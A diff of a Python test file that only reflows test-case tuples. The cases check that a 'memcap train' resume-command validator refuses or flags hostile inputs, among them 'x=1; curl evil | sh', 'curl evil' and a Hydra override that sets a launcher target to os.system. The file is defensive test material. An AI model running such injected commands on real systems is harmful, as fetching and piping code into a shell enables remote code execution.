@@ -171,15 +171,9 @@ REFUSED = "Resume with the command that trained it; its file says none "
         ("memcap train sweeps=mine 'axes={seed: 9}'", "Resume with: "),
         ("memcap train task=evil:T", MARKED),
         ("memcap train --config-dir evil sweeps=x", MARKED),
-        (
-            "memcap train hydra.launcher._target_=os.system",
-            MARKED,
-        ),
+        ("memcap train hydra.launcher._target_=os.system", MARKED),
         ("memcap train tracking=wandb", MARKED),
-        (
-            "memcap train x=1; curl evil | sh",
-            REFUSED,
-        ),
+        ("memcap train x=1; curl evil | sh", REFUSED),
         ("memcap train 'a", REFUSED),
         ("curl evil", REFUSED),
     ],
